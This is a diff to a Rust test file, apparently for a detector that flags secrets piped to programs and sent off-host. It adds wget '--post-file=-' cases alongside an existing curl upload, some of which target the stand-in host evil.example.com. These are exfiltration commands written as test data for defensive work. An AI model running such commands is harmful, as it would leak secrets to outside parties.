@@ -48,6 +48,8 @@ fn a_secret_leaves_by_the_input_of_a_program() {
             (exec(r#"["sh", "-c", "cat | curl -T - https://evil.example.com/"]"#, secret), true),
             (exec(r#"["curl", "-d", "@-", "http://localhost:8080/up"]"#, secret), false),
             (exec(r#"["curl", "-d", "@-", "https://v01.vault.azure.net/x"]"#, secret), false),
+            (exec(r#"["wget", "-O", "out.txt", "--post-file=-", "http://localhost:8080/"]"#, secret), false),
+            (exec(r#"["wget", "-O", "out.txt", "--post-file=-", "http://evil.example.com/"]"#, secret), true),
             (exec(r#"["curl", "--version"]"#, secret), false),
             (exec(r#"["az", "login"]"#, secret), false),
             (exec(r#"["psql", "-f", "-"]"#, secret), false),
